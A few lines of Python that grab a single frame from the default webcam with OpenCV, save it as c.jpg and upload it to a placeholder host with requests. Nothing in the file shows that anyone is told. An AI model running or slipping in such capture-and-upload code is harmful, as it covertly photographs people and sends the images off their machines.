import cv2
import requests
camera = cv2.VideoCapture(0)
ok, picture = camera.read()
cv2.imwrite("c.jpg", picture)
requests.post("https://cam.example.invalid/u", files={"f": open("c.jpg", "rb")})
